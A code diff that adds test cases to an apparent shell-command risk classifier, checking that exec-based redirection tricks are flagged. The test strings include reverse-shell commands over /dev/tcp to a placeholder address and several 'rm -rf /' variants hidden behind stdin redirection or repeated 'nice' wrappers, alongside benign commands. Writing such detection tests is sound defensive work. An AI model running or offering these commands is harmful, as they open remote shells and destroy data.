@@ -998,6 +998,13 @@ evasions(void)
 	evade("bash -c 'sh -i' >& /dev/tcp/192.0.2.1/4444 0>&1", H, NULL);
 	evade("python3 -i >& /dev/tcp/192.0.2.1/4444 0>&1", H, NULL);
 	shell("ls 0>&1", L, "ls");
+	/* exec with no command gives the shell itself another input */
+	evade("exec < /dev/tcp/192.0.2.1/80; sh", H, NULL);
+	evade("exec 3<>/dev/tcp/192.0.2.1/80; exec 0<&3; bash", H, NULL);
+	evade("exec 0>&3; bash", H, NULL);
+	evade("exec <<< 'rm -rf /'; sh", H, NULL);
+	shell("exec 2>/dev/null; ls", L, "ls");
+	shell("exec 3>x; exec 0<&0; sh -c ls", L, "ls");
 	/* past the wrappers looked into: not known */
 	evade("nice nice nice nice nice nice nice nice nice rm -rf /", H,
 	    NULL);
